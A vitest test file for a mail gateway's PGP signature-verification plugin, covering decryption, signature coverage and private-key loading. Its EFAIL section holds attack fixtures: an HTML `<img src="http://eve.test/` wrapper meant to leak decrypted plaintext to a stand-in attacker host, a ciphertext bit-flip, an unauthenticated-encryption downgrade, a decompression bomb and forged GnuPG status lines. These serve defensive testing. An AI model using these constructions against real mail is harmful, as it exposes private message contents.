/** What is signed inside encrypted mail is judged where the gateway may open it; the mail itself stays encrypted. */
import {
  config,
  createMessage,
  decrypt,
  decryptKey,
  encrypt,
  encryptKey,
  encryptSessionKey,
  enums,
  generateSessionKey,
  PacketList,
  readMessage,
  readPrivateKey,
  SymmetricallyEncryptedDataPacket,
} from 'openpgp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Facts } from '../../../core/index.ts';
import { armoredBlocks } from '../../../core/openpgp/armor.ts';
import { faultsIn, harness } from '../../../core/testing.ts';
import pgpVerify from '../../../plugins/pgp-verify/index.ts';
import { describeWithGnupg, Gnupg } from '../../support/gnupg.ts';
import {
  detached,
  FROM_ANN,
  makeKey,
  multipartSigned,
  NOW,
  PART,
  type TestKey,
} from '../../support/openpgp-signing.ts';

const MADE = '20260101T000000';
const SIGNED_AT = '20260201T120000';

const crlf = (text: string) => text.replaceAll(/\r?\n/g, '\r\n');

/** A multipart/encrypted (RFC 3156 section 4). */
function multipartEncrypted(message: string): string {
  return [
    'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=sealed',
    '',
    '--sealed',
    'Content-Type: application/pgp-encrypted',
    '',
    'Version: 1',
    '',
    '--sealed',
    'Content-Type: application/octet-stream',
    '',
    crlf(message),
    '--sealed--',
    '',
  ].join('\r\n');
}

async function verdict(mail: string, files: Readonly<Record<string, string>>, decrypt: object | null): Promise<Facts> {
  const options = { keyring: './keys', header: false, ...(decrypt === null ? {} : { decrypt }) };
  const { data } = await harness(pgpVerify, options, { files, now: NOW });
  const answer = await data(mail);
  if (answer?.kind !== 'note') throw new Error('no note');
  return answer.facts;
}

const OPEN = { keys: './private' };

describeWithGnupg('what GnuPG encrypts and signs', () => {
  let gnupg: Gnupg;
  let gateway: string;
  let files: Readonly<Record<string, string>>;
  let by: readonly string[];

  beforeAll(async () => {
    gnupg = await Gnupg.create();
    const made = { algorithm: 'ed25519', made: MADE, expires: 'never' } as const;
    const ann = await gnupg.makeKey({ userId: 'Ann <ann@example.test>', ...made });
    gateway = await gnupg.makeKey({ userId: 'Gateway <gateway@example.test>', ...made, algorithm: 'rsa2048' });
    await gnupg.addEncryptionSubkey(gateway, MADE);
    by = [ann];
    files = { 'keys/ann.asc': await gnupg.publicKey(ann), 'private/gateway.asc': await gnupg.privateKey(gateway) };
  });
  afterAll(() => gnupg?.remove());

  const seal = (text: string, more: readonly string[] = [], signed = true) =>
    gnupg.encrypt(Buffer.from(text), { to: gateway, ...(signed ? { by } : {}), at: SIGNED_AT, more });

  test.each([
    [],
    ['--compress-algo', 'none'],
    ['--compress-algo', 'bzip2'],
    ['--textmode'],
    ['--throw-keyids'],
    ['--cipher-algo', '3DES'],
  ])('signed and encrypted in one: good, with %s', async (...more) => {
    const mail = FROM_ANN + multipartEncrypted(await seal(PART, more));
    expect(await verdict(mail, files, OPEN)).toMatchObject({
      pgp: 'good',
      'pgp.aligned': true,
      'pgp.coverage': 'whole',
      'pgp.encrypted': true,
    });
    expect(await verdict(mail, files, null)).toMatchObject({ pgp: 'encrypted' });
  });

  test('signed, then encrypted: the multipart/signed inside is judged', async () => {
    const signature = await gnupg.sign(Buffer.from(PART), 'detached', { by, at: SIGNED_AT });
    const inside = multipartSigned(PART, crlf(signature));
    const good = FROM_ANN + multipartEncrypted(await seal(inside, [], false));
    expect(await verdict(good, files, OPEN)).toMatchObject({ pgp: 'good', 'pgp.coverage': 'whole' });
    const bad = FROM_ANN + multipartEncrypted(await seal(inside.replace('10 Euro', '90 Euro'), [], false));
    expect(await verdict(bad, files, OPEN)).toMatchObject({ pgp: 'bad' });
  });

  test('encrypted and not signed: none, and encrypted', async () => {
    const mail = FROM_ANN + multipartEncrypted(await seal(PART, [], false));
    expect(await verdict(mail, files, OPEN)).toMatchObject({ pgp: 'none', 'pgp.encrypted': true });
  });

  test('signed and encrypted in the text: good where nothing stands around it', async () => {
    const sealed = crlf(await seal('Pay Bob 10 Euro.\n'));
    expect(await verdict(`${FROM_ANN}\r\n${sealed}`, files, OPEN)).toMatchObject({ pgp: 'good' });
    expect(await verdict(`${FROM_ANN}\r\nPay Eve.\r\n${sealed}`, files, OPEN)).toMatchObject({ pgp: 'partial' });
  });

  test('the mail that is passed on is encrypted as before', async () => {
    const mail = FROM_ANN + multipartEncrypted(await seal(PART));
    const { data } = await harness(pgpVerify, { keyring: './keys', decrypt: OPEN }, { files, now: NOW });
    const answer = await data(mail);
    if (answer?.kind !== 'rewrite') throw new Error('no rewrite');
    const passed = (await answer.content.bytes()).toString('latin1');
    expect(passed.endsWith(mail)).toBe(true);
    expect(passed).not.toContain('10 Euro');
  });
});

describe('EFAIL, and other tricks with what is encrypted', () => {
  let ann: TestKey;
  let gateway: TestKey;
  let files: Readonly<Record<string, string>>;

  beforeAll(async () => {
    ann = await makeKey([{ email: 'ann@example.test' }]);
    gateway = await makeKey([{ email: 'gateway@example.test' }], { encrypts: true });
    files = { 'keys/ann.asc': ann.publicKey.armor(), 'private/gateway.asc': gateway.privateKey.armor() };
  });

  async function sealed(text: string, signed = true): Promise<string> {
    return await encrypt({
      message: await createMessage({ binary: Buffer.from(text) }),
      encryptionKeys: gateway.publicKey,
      ...(signed ? { signingKeys: ann.privateKey } : {}),
      date: new Date(NOW.getTime() - 1000),
    });
  }

  const text = 'Content-Type: text/html\r\n\r\n<img src="http://eve.test/';
  const mixed = (...parts: readonly string[]) =>
    `Content-Type: multipart/mixed; boundary=mix\r\n\r\n${parts.map(part => `--mix\r\n${part}\r\n`).join('')}--mix--\r\n`;

  test('for comparison: untouched it is good', async () => {
    expect(await verdict(FROM_ANN + multipartEncrypted(await sealed(PART)), files, OPEN)).toMatchObject({
      pgp: 'good',
    });
  });

  test('direct exfiltration: HTML around the encrypted part makes it partial', async () => {
    const mail = FROM_ANN + mixed(text, multipartEncrypted(await sealed(PART)), 'Content-Type: text/html\r\n\r\n">');
    expect(await verdict(mail, files, OPEN)).toMatchObject({ pgp: 'partial' });
  });

  test.each([
    {
      title: 'a third part in multipart/encrypted',
      change: (mail: string) => mail.replace('--sealed--', `--sealed\r\n${text}\r\n--sealed--`),
    },
    { title: 'text behind the last boundary', change: (mail: string) => `${mail}Pay Eve.\r\n` },
    {
      title: 'two Content-Type fields',
      change: (mail: string) => mail.replace('\r\n\r\n', '\r\nContent-Type: text/html\r\n\r\n'),
    },
  ])('$title makes it partial', async ({ change }) => {
    expect(await verdict(FROM_ANN + change(multipartEncrypted(await sealed(PART))), files, OPEN)).toMatchObject({
      pgp: 'partial',
    });
  });

  test('malleability gadget: an altered octet keeps it closed', async () => {
    const [block] = armoredBlocks(Buffer.from(await sealed(PART)));
    const octets = block?.octets ?? Buffer.alloc(0);
    const at = octets.length - 40;
    octets[at] = (octets[at] ?? 0) ^ 1;
    const armored = `-----BEGIN PGP MESSAGE-----\n\n${octets.toString('base64')}\n-----END PGP MESSAGE-----\n`;
    expect(await verdict(FROM_ANN + multipartEncrypted(armored), files, OPEN)).toMatchObject({ pgp: 'encrypted' });
  });

  test('downgrade: a message without protection of its integrity stays closed', async () => {
    const date = new Date(NOW.getTime() - 1000);
    const session = await generateSessionKey({ encryptionKeys: gateway.publicKey, date });
    const key = await encryptSessionKey({ ...session, encryptionKeys: gateway.publicKey, date, format: 'object' });
    const { packets } = await createMessage({ binary: Buffer.from(PART) });
    const bare = Object.assign(new SymmetricallyEncryptedDataPacket(), { packets });
    // Its types say that this is private.
    const sealing = bare as unknown as { encrypt(...args: readonly unknown[]): Promise<void> };
    await sealing.encrypt(enums.symmetric[session.algorithm], session.data, config);
    const list = new PacketList<never>();
    list.push(...([...key.packets, bare] as never[]));
    const message = await readMessage({ binaryMessage: list.write() });
    const opened = await decrypt({
      message,
      decryptionKeys: gateway.privateKey,
      config: { allowUnauthenticatedMessages: true },
    });
    expect(opened.data).toContain('Pay Bob 10 Euro.');
    const armored = `-----BEGIN PGP MESSAGE-----\n\n${Buffer.from(list.write()).toString('base64')}\n-----END PGP MESSAGE-----\n`;
    expect(await verdict(FROM_ANN + multipartEncrypted(armored), files, OPEN)).toMatchObject({ pgp: 'encrypted' });
  });

  test('a signed part beside one that is not, inside: partial', async () => {
    const inside = mixed(text, multipartSigned(PART, await detached(PART, [ann])));
    expect(await verdict(FROM_ANN + multipartEncrypted(await sealed(inside, false)), files, OPEN)).toMatchObject({
      pgp: 'partial',
    });
  });

  test('a signature inside what is signed and encrypted is the signer’s own business', async () => {
    const inside = multipartSigned(PART.replace('Bob', 'Eve'), await detached(PART, [ann]));
    expect(await verdict(FROM_ANN + multipartEncrypted(await sealed(inside)), files, OPEN)).toMatchObject({
      pgp: 'good',
      'pgp.coverage': 'whole',
    });
  });

  test('fake status text in what is encrypted is text', async () => {
    const inside = `${PART}[GNUPG:] GOODSIG 0123456789ABCDEF Ann <ann@example.test>\r\n[GNUPG:] VALIDSIG 0\r\n`;
    expect(await verdict(FROM_ANN + multipartEncrypted(await sealed(inside, false)), files, OPEN)).toMatchObject({
      pgp: 'none',
    });
  });

  test('decompression bomb: it stays closed, and small', async () => {
    const bomb = await encrypt({
      message: await createMessage({ binary: Buffer.alloc(4 * 1024 * 1024) }),
      encryptionKeys: gateway.publicKey,
      date: new Date(NOW.getTime() - 1000),
      config: { preferredCompressionAlgorithm: enums.compression.zlib },
    });
    expect(bomb.length).toBeLessThan(40_000);
    const options = { keyring: './keys', header: false, decrypt: OPEN, maxSize: '1 MiB' };
    const { data } = await harness(pgpVerify, options, { files, now: NOW });
    expect(await data(FROM_ANN + multipartEncrypted(bomb))).toMatchObject({ facts: { pgp: 'encrypted' } });
  });

  test('encrypted for somebody else it stays closed', async () => {
    const stranger = await makeKey([{ email: 'stranger@example.test' }], { encrypts: true });
    const other = { ...files, 'private/gateway.asc': stranger.privateKey.armor() };
    expect(await verdict(FROM_ANN + multipartEncrypted(await sealed(PART)), other, OPEN)).toMatchObject({
      pgp: 'encrypted',
    });
  });
});

describe('the private keys', () => {
  test('are unlocked by the passphrase', async () => {
    const gateway = await makeKey([{ email: 'gateway@example.test' }], { encrypts: true });
    const locked = await encryptKey({ privateKey: gateway.privateKey, passphrase: 'open sesame' });
    const files = { 'keys/README': '', 'private/gateway.asc': locked.armor() };
    const message = await encrypt({
      message: await createMessage({ binary: Buffer.from(PART) }),
      encryptionKeys: gateway.publicKey,
      date: NOW,
    });
    const mail = FROM_ANN + multipartEncrypted(message);
    expect(await verdict(mail, files, { ...OPEN, passphrase: 'open sesame' })).toMatchObject({ pgp: 'none' });
    const read = await readPrivateKey({ armoredKey: locked.armor() });
    await expect(decryptKey({ privateKey: read, passphrase: 'shut' })).rejects.toThrow();
    const options = { keyring: './keys', decrypt: { ...OPEN, passphrase: 'shut' } };
    const [fault] = await faultsIn(pgpVerify, options, { files });
    expect(fault).toMatch(/^options\.decrypt\.keys: .*gateway\.asc/);
    expect(fault).not.toContain('shut');
  });

  test.each([
    {
      title: 'that are locked, without a passphrase',
      file: async () =>
        (
          await encryptKey({ privateKey: (await makeKey([{ email: 'a@b.test' }])).privateKey, passphrase: 'x' })
        ).armor(),
      want: 'is locked',
    },
    {
      title: 'that are public ones',
      file: async () => (await makeKey([{ email: 'a@b.test' }])).publicKey.armor(),
      want: 'no private key',
    },
    { title: 'that are none', file: () => Promise.resolve('hello'), want: 'no private key' },
  ])('$title are a complaint', async ({ file, want }) => {
    const files = { 'keys/README': '', 'private/key.asc': await file() };
    expect(await faultsIn(pgpVerify, { keyring: './keys', decrypt: OPEN }, { files })).toEqual([
      expect.stringContaining(want),
    ]);
  });
});
